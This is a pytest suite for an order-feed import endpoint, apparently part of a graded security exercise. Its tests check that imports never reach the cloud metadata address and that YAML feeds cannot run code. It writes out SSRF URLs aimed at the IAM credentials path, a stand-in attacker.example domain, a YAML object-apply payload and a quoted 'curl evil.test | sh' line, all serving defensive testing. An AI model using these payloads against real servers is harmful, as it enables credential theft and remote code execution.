"""Importing a partner's order feed: the one endpoint that makes the server fetch a URL.

Nothing here touches the real network: the `internet` fixture (see network.py) answers
every request from a table, records what was sent, and refuses every other connection.
"""

import json

import pytest
from conftest import IMPORT, PARTNER

FEED = {
    "orders": [{"reference": "ERP-1", "note": "", "lines": [{"sku": "DESK-01", "quantity": 1}]}]
}
METADATA = "169.254.169.254"
CREDENTIALS = json.dumps({"AccessKeyId": "ASIA-FAKE", "SecretAccessKey": "fake", "Token": "fake"})


def test_a_json_feed_is_imported(as_alice, alice, catalogue, internet):
    internet.serve(
        f"{PARTNER}/orders.json", json.dumps(FEED), **{"Content-Type": "application/json"}
    )
    response = as_alice.post(IMPORT, {"url": f"{PARTNER}/orders.json"}, format="json")
    assert response.status_code == 201, response.content
    assert list(alice.orders.values_list("reference", flat=True)) == ["ERP-1"]


def test_a_yaml_feed_is_imported(as_alice, alice, catalogue, internet):
    yaml_feed = (
        "orders:\n"
        "  - reference: ERP-2\n"
        "    note: ''\n"
        "    lines:\n"
        "      - {sku: DESK-01, quantity: 2}\n"
    )
    internet.serve(f"{PARTNER}/orders.yaml", yaml_feed)
    response = as_alice.post(IMPORT, {"url": f"{PARTNER}/orders.yaml"}, format="json")
    assert response.status_code == 201, response.content
    assert list(alice.orders.values_list("reference", flat=True)) == ["ERP-2"]


def test_a_feed_that_is_down_is_a_clean_error(as_alice, alice, catalogue, internet):
    internet.serve(f"{PARTNER}/orders.json", "Service Unavailable", status=503)
    response = as_alice.post(IMPORT, {"url": f"{PARTNER}/orders.json"}, format="json")
    assert response.status_code in (502, 503, 504), "a partner's outage is a gateway error"
    assert not alice.orders.exists()


# --8<-- [start:ssrf]
SSRF_ATTEMPTS = [
    pytest.param(
        f"http://{METADATA}/latest/meta-data/iam/security-credentials/web", id="metadata-ip"
    ),
    pytest.param(
        "http://metadata.attacker.example/latest/meta-data/", id="dns-name-pointing-inside"
    ),
    pytest.param(f"{PARTNER}/moved.json", id="redirect-from-an-allowed-host"),
]


@pytest.mark.flaw("D6-F7")
@pytest.mark.parametrize("url", SSRF_ATTEMPTS)
def test_the_import_never_fetches_an_internal_address(as_mallory, catalogue, internet, url):
    internet.dns["metadata.attacker.example"] = METADATA  # the attacker controls this zone
    internet.serve(f"http://{METADATA}/latest/meta-data/iam/security-credentials/web", CREDENTIALS)
    internet.serve("http://metadata.attacker.example/latest/meta-data/", CREDENTIALS)
    internet.redirect(f"{PARTNER}/moved.json", f"http://{METADATA}/latest/meta-data/")

    response = as_mallory.post(IMPORT, {"url": url}, format="json")

    assert not internet.contacted(METADATA), (
        f"importing {url} made the server send a request to the cloud metadata address "
        f"{METADATA} (status {response.status_code}): fetch partner hosts only, never follow "
        "a redirect you have not checked"
    )
    assert "ASIA-FAKE" not in response.content.decode()


# --8<-- [end:ssrf]


@pytest.mark.flaw("D6-F8")
def test_a_partner_that_never_answers_does_not_hold_the_worker(as_alice, catalogue, internet):
    internet.hang(f"{PARTNER}/orders.json")
    response = as_alice.post(IMPORT, {"url": f"{PARTNER}/orders.json"}, format="json")
    assert not internet.waited_forever, (
        "the import called a partner that never answers with no timeout: a real request "
        "would have held this worker forever"
    )
    assert response.status_code in (502, 503, 504)


@pytest.mark.flaw("D6-F12")
def test_a_yaml_feed_cannot_run_code(as_mallory, catalogue, internet, tmp_path):
    proof = tmp_path / "the-feed-ran-code-here"
    # A harmless stand-in for os.system("curl evil.test | sh"): the same tag, a mkdir.
    internet.serve(
        f"{PARTNER}/orders.yaml", f"orders: !!python/object/apply:os.makedirs ['{proof}']\n"
    )
    response = as_mallory.post(IMPORT, {"url": f"{PARTNER}/orders.yaml"}, format="json")
    assert not proof.exists(), (
        "a YAML tag in the feed ran os.makedirs() on the server: parse feeds with "
        "yaml.safe_load, which builds data, never objects"
    )
    assert response.status_code == 400
